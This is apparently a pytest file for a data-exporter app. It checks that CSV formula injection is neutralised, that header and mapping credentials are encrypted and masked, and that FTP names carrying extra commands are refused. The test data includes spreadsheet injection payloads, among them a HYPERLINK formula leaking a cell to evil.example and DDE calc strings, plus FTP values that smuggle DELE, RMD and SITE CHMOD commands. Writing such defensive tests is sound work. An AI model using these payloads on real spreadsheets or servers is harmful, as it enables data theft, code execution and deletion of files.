"""Profile settings that matter for security (issue 9): spreadsheet formulas in CSV files
(point 9), Extra Headers as secrets (point 10), FTP names that would smuggle a command (point 12)."""
import csv
import io
import json
from datetime import datetime, time, timedelta, timezone

import pytest
from exporter_ftp import FtpType

from exporter.files import daily_files
from exporter.profiles import rules as profiles, as_code as profiles_io
from exporter import security
from exporter.export_types import neutralised
from exporter.extensions import db
from exporter.models import Attempt, AuditEntry, Delivery, Profile

from .factories import event, make_profile
from .plugins.conftest import ftp_server  # noqa: F401 - a fixture

DAY = datetime.now(timezone.utc).date() - timedelta(days=2)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "=1+1", "\t=1", "\r=1"]
BEARER = "Bearer s3cr3t-t0ken-4242"


# --- 9. CSV formula injection ----------------------------------------------------------------

@pytest.mark.parametrize("value", FORMULAS)
def test_formulas_are_neutralised(value):
    assert neutralised(value) == "'" + value


@pytest.mark.parametrize("value", ["-49.95", "+1", "1e3", "Jane", "", "a=b", "jane@example.com", "-"])
def test_plain_values_and_numbers_stay_as_they_are(value):
    assert neutralised(value) == (value if value != "-" else "'-")


def test_a_new_daily_file_profile_neutralises_formulas(logged_in):
    assert logged_in.post("/profiles/new", data={"name": "Daily", "export_type": "ftp"}).status_code == 302
    profile = db.session.scalar(db.select(Profile).where(Profile.name == "Daily"))
    assert profile.settings["neutralise_formulas"] is True


def test_formulas_are_neutralised_in_the_partners_file_and_the_admins_download(app, logged_in, post_events,
                                                                               ftp_server, run_jobs):
    profile = make_profile(name="Daily", export_type="ftp", settings=ftp_server.settings(),
                           mappings=[{"export_name": "=name", "field": "firstName"},
                                     {"export_name": "total", "field": "totalAmount"}])
    profile.created_at = datetime.combine(DAY, time(12))
    db.session.commit()
    post_events({"events": [event(f"e{i}", occurred_at=f"{DAY.isoformat()}T12:00:0{i}Z", firstName=value,
                                  totalAmount="-49.95") for i, value in enumerate(FORMULAS[:4])]})
    daily_files.tick(now=datetime.combine(DAY + timedelta(days=1), time(2), tzinfo=timezone.utc))
    run_jobs(until=lambda: db.session.scalar(db.select(Delivery.status)) == "delivered")
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerows([["'=name", "total"]] + [["'" + v, "-49.95"] for v in FORMULAS[:4]])
    [sent] = ftp_server.files().values()
    assert sent.decode() == buf.getvalue()
    delivery = db.session.scalars(db.select(Delivery)).one()
    assert logged_in.get(f"/files/deliveries/{delivery.id}/download").get_data(as_text=True) == buf.getvalue()


def test_with_the_setting_off_the_partner_gets_values_as_they_are_but_the_download_is_still_safe(
        app, logged_in, post_events, ftp_server, run_jobs):
    profile = make_profile(name="Daily", export_type="ftp", settings=ftp_server.settings(neutralise_formulas=False),
                           mappings=[{"export_name": "name", "field": "firstName"}])
    profile.created_at = datetime.combine(DAY, time(12))
    db.session.commit()
    post_events(event(occurred_at=f"{DAY.isoformat()}T12:00:00Z", firstName="=1+1"))
    daily_files.tick(now=datetime.combine(DAY + timedelta(days=1), time(2), tzinfo=timezone.utc))
    run_jobs(until=lambda: db.session.scalar(db.select(Delivery.status)) == "delivered")
    assert list(ftp_server.files().values()) == [b"name\r\n=1+1\r\n"]
    delivery = db.session.scalars(db.select(Delivery)).one()
    assert logged_in.get(f"/files/deliveries/{delivery.id}/download").get_data(as_text=True) == "name\r\n'=1+1\r\n"


# --- 10. Extra Headers are secrets ---------------------------------------------------------------

def test_extra_headers_are_encrypted_masked_and_never_exported_in_clear(app, logged_in, receiver, run_jobs,
                                                                         post_events):
    profile = make_profile(url=receiver.url + "/p", settings={"url": receiver.url + "/p", "method": "GET",
                                                              "headers": f"Authorization: {BEARER}\nX-Partner: acme"})
    assert profile.settings["headers"].startswith(security.ENCRYPTED_PREFIX)
    assert "s3cr3t" not in logged_in.get(f"/profiles/{profile.id}").get_data(as_text=True)
    exported = logged_in.get("/profiles/export.json").get_data(as_text=True)
    assert "s3cr3t" not in exported and "acme" not in exported
    assert json.loads(exported)["profiles"][0]["settings"]["headers"] == security.MASK
    # Importing the export back keeps the stored headers.
    profiles_io.import_all(json.loads(exported))
    db.session.expire_all()
    assert security.decrypt("test-secret", db.session.get(Profile, profile.id).settings["headers"]) == \
        f"Authorization: {BEARER}\nX-Partner: acme"
    post_events(event())
    run_jobs(until=lambda: db.session.scalar(db.select(Delivery.status)) == "delivered")
    assert receiver.requests[0].headers["Authorization"] == BEARER
    attempt = db.session.scalars(db.select(Attempt)).one()
    assert attempt.request_headers["Authorization"] == "****" and attempt.request_headers["X-Partner"] == "****"


def test_saving_the_form_with_blank_extra_headers_keeps_them(app, logged_in, receiver):
    profile = make_profile(settings={"url": "https://example.com/p", "method": "GET", "headers": "X-Key: k1"})
    response = logged_in.post(f"/profiles/{profile.id}", data={
        "name": profile.name, "export_type": "postback", "delay_minutes": "0", "active": "y",
        "settings-url": "https://example.com/p", "settings-method": "GET", "settings-headers": ""})
    assert response.status_code == 302
    db.session.expire_all()
    assert security.decrypt("test-secret", db.session.get(Profile, profile.id).settings["headers"]) == "X-Key: k1"


# --- 12. no second FTP command in a name ----------------------------------------------------------

@pytest.mark.parametrize("setting, value", [
    ("file_name", "x.csv\r\nDELE important.csv"), ("file_name", "x\n.csv"), ("file_name", "x\x00.csv"),
    ("directory", "/in\r\nRMD /"), ("username", "u\r\nSITE CHMOD 777 /"), ("host", "ftp.example.com\x00")])
def test_ftp_names_with_cr_lf_or_nul_are_refused_at_save(setting, value):
    settings = {"protocol": "ftp", "host": "ftp.example.com", "username": "u", setting: value}
    errors = profiles.check_settings(FtpType, settings)
    assert setting in errors and ("line break" in errors[setting] or "name or address" in errors[setting])


# --- issue 21, point 5: credentials in Static mappings and in the Postback URL -------------------

API_KEY = "k3y-7f1c-9e22-b0b0"
PASSWORD_VALUE = "pa55-w0rd-3131"
URL_KEY = "u7l-k3y-8d8d-aa01"
URL_PASSWORD = "pw-in-url-4747"
SECRETS = (API_KEY, PASSWORD_VALUE, URL_KEY, URL_PASSWORD)


@pytest.mark.parametrize("name, secret", [
    ("header:X-Api-Key", True), ("header:Content-Type", True), ("api_key", True), ("X-Api-Key", True),
    ("apiKey", True), ("APIKEY", True), ("password", True), ("pass", True), ("access_token", True),
    ("client_secret", True), ("list_id", False), ("monkey", False), ("keyword", False), ("passenger", False)])
def test_which_static_mappings_are_secrets(name, secret):
    assert security.is_secret_mapping(name, "static") is secret
    assert security.is_secret_mapping(name, "firstName") is False  # a field's value comes from the order


def test_the_names_are_configurable(app):
    app.config["SECRET_NAMES"] = ["pin", "auth"]
    assert profiles.is_secret_mapping({"export_name": "Auth-Code", "field": "static"})
    assert profiles.is_secret_mapping({"export_name": "pin", "field": "static"})
    assert not profiles.is_secret_mapping({"export_name": "api_key", "field": "static"})
    assert profiles.is_secret_mapping({"export_name": "header:anything", "field": "static"})


@pytest.fixture
def viewer_client(app, logged_in):
    from exporter.models import User

    from .conftest import PASSWORD

    user = User(email="viewer@example.com", role="viewer")
    user.set_password(PASSWORD)
    db.session.add(user)
    db.session.commit()
    client = app.test_client()
    assert get(client, "/login", "POST", data={"email": user.email, "password": PASSWORD}).status_code == 302
    return client


def get(client, url, method="GET", **kwargs):
    """A request as its own: Flask-Login keeps the last user it loaded on the test's g."""
    from flask import g

    g.pop("_login_user", None)
    return client.open(url, method=method, **kwargs)


def secret_profile(receiver, **overrides):
    url = receiver.url.replace("http://", f"http://partner:{URL_PASSWORD}@") + f"/p.php?list=7&apikey={URL_KEY}"
    mappings = [{"export_name": "first_name", "field": "firstName"},
                {"export_name": "header:X-Api-Key", "field": "static", "static_value": API_KEY},
                {"export_name": "password", "field": "static", "static_value": PASSWORD_VALUE},
                {"export_name": "list_id", "field": "static", "static_value": "400"}]
    return make_profile(url=url, settings={"url": url, "method": "GET"}, mappings=mappings, **overrides)


def database_text():
    rows = []
    for table in db.metadata.sorted_tables:
        rows += [repr(tuple(r)) for r in db.session.execute(db.text(f"SELECT * FROM {table.name}"))]
    return "\n".join(rows)


def test_credentials_are_encrypted_masked_everywhere_and_still_sent(app, logged_in, receiver, run_jobs, post_events,
                                                                     viewer_client):
    profile = secret_profile(receiver)
    stored = database_text()
    assert not any(secret in stored for secret in SECRETS)  # encrypted at rest
    by_name = {m.export_name: m for m in profile.mappings}
    assert by_name["header:X-Api-Key"].static_value.startswith(security.ENCRYPTED_PREFIX)
    assert by_name["list_id"].static_value == "400"
    assert profile.settings["url"].endswith("/p.php?list=7&apikey=****") and "//****@" in profile.settings["url"]

    for client in (logged_in, viewer_client):
        for url in (f"/profiles/{profile.id}", f"/profiles/{profile.id}/preview", "/profiles/export.json",
                    "/profiles/", "/audit/", f"/audit/profiles/{profile.id}",
                    *[f"/audit/{e}" for e in db.session.scalars(db.select(AuditEntry.id))]):
            response = get(client, url)
            assert response.status_code == 200, url
            page = response.get_data(as_text=True)
            assert not any(secret in page for secret in SECRETS), url
    edit_page = get(logged_in, f"/profiles/{profile.id}").get_data(as_text=True)
    assert '"static_secret": true' in edit_page and "<td>****</td>" in edit_page
    exported = json.loads(get(logged_in, "/profiles/export.json").get_data(as_text=True))["profiles"][0]
    assert [m.get("static_value") for m in exported["mappings"]] == [None, "****", "****", "400"]
    assert exported["settings"]["url"].endswith("/p.php?list=7&apikey=****")

    post_events(event())
    run_jobs(until=lambda: db.session.scalar(db.select(Delivery.status)) == "delivered")
    sent = receiver.requests[0]
    assert sent.headers["X-Api-Key"] == API_KEY and f"password={PASSWORD_VALUE}" in sent.path
    assert f"apikey={URL_KEY}" in sent.path and "list_id=400" in sent.path
    assert sent.headers["Authorization"].startswith("Basic ")  # the URL's user and password
    delivery = db.session.scalar(db.select(Delivery))
    for client in (logged_in, viewer_client):
        page = get(client, f"/deliveries/{delivery.id}").get_data(as_text=True)
        assert not any(secret in page for secret in SECRETS)
    assert not any(secret in database_text() for secret in SECRETS)  # nor in the attempt log


def test_a_blank_static_value_or_the_mask_keeps_the_stored_secret(app, logged_in, receiver):
    profile = secret_profile(receiver)
    key_mapping = next(m for m in profile.mappings if m.export_name == "header:X-Api-Key")
    stored = key_mapping.static_value
    no_js = logged_in.get(f"/profiles/{profile.id}?mapping={key_mapping.id}").get_data(as_text=True)
    assert 'placeholder="Stored encrypted, not shown: leave blank to keep it"' in no_js and API_KEY not in no_js
    response = logged_in.post(f"/profiles/{profile.id}/mappings/{key_mapping.id}", data={
        "export_name": "header:X-Api-Key", "field": "static", "static_value": "", "format": "upper"})
    assert response.status_code == 302
    db.session.expire_all()
    kept = db.session.get(type(key_mapping), key_mapping.id)
    assert kept.static_value == stored and kept.format == "upper"
    # The profiles JSON with **** imports back without changing a secret; a new value replaces it.
    exported = json.loads(logged_in.get("/profiles/export.json").get_data(as_text=True))
    profiles_io.import_all(exported)
    db.session.expire_all()
    reloaded = db.session.get(Profile, profile.id)
    values = {m.export_name: security.decrypt("test-secret", m.static_value) for m in reloaded.mappings}
    assert values["header:X-Api-Key"] == API_KEY and values["password"] == PASSWORD_VALUE
    assert profiles.stored_url(reloaded.settings, "url", "test-secret").endswith(f"apikey={URL_KEY}")
    # A new mapping that is a secret needs its value.
    response = logged_in.post(f"/profiles/{profile.id}/mappings", data={
        "export_name": "token", "field": "static", "static_value": ""})
    assert response.status_code == 422


def test_the_url_form_shows_the_mask_and_keeps_the_stored_credentials(app, logged_in, receiver):
    profile = secret_profile(receiver)
    page = logged_in.get(f"/profiles/{profile.id}").get_data(as_text=True)
    masked = profile.settings["url"]
    assert f'value="{masked}"' in page.replace("&amp;", "&")
    response = logged_in.post(f"/profiles/{profile.id}", data={
        "name": profile.name, "export_type": "postback", "delay_minutes": "0", "active": "y",
        "settings-url": masked.replace("list=7", "list=8"), "settings-method": "GET"})
    assert response.status_code == 302, response.get_data(as_text=True)
    db.session.expire_all()
    real = profiles.stored_url(db.session.get(Profile, profile.id).settings, "url", "test-secret")
    assert real.endswith(f"/p.php?list=8&apikey={URL_KEY}") and f"partner:{URL_PASSWORD}@" in real
    # **** where nothing is stored is refused beside the field.
    response = logged_in.post(f"/profiles/{profile.id}", data={
        "name": profile.name, "export_type": "postback", "delay_minutes": "0", "active": "y",
        "settings-url": masked + "&token=****", "settings-method": "GET"})
    assert response.status_code == 422 and "stands for the stored token" in response.get_data(as_text=True)


def test_the_live_preview_never_shows_a_secret(app, logged_in, receiver):
    profile = secret_profile(receiver)
    response = logged_in.post(f"/profiles/{profile.id}/preview", data={
        "name": profile.name, "export_type": "postback", "delay_minutes": "0",
        "settings-url": receiver.url + "/p.php?apikey=typed-now-9999", "settings-method": "GET",
        "editing": "new", "export_name": "secret", "field": "static", "static_value": "typed-too-8888"})
    preview = response.json["preview"]
    assert "typed-now-9999" not in preview and "typed-too-8888" not in preview
    assert "secret=%2A%2A%2A%2A" in preview or "secret=****" in preview
    assert not any(secret in preview for secret in SECRETS)


def test_audit_names_a_changed_secret_and_only_a_changed_one(app, logged_in, receiver):
    from exporter.models import AuditEntry

    profile = secret_profile(receiver)
    form = {"name": profile.name, "export_type": "postback", "delay_minutes": "0", "active": "y",
            "settings-url": profile.settings["url"], "settings-method": "GET"}
    assert get(logged_in, f"/profiles/{profile.id}", "POST", data={**form, "delay_minutes": "2"}).status_code == 302
    key_mapping = next(m for m in profile.mappings if m.export_name == "header:X-Api-Key")
    assert get(logged_in, f"/profiles/{profile.id}/mappings/{key_mapping.id}", "POST", data={
        "export_name": "header:X-Api-Key", "field": "static", "static_value": "a-new-key-0000"}).status_code == 302
    summaries = [e.summary for e in db.session.scalars(db.select(AuditEntry).where(
        AuditEntry.action.in_(["profile.update", "mapping.edit"])).order_by(AuditEntry.id))]
    assert summaries == ["General Settings saved",
                         "Mapping 'header:X-Api-Key' saved; new secret: Static Value of header:X-Api-Key"]
    page = get(logged_in, "/audit/").get_data(as_text=True)
    assert "a-new-key-0000" not in page and API_KEY not in page
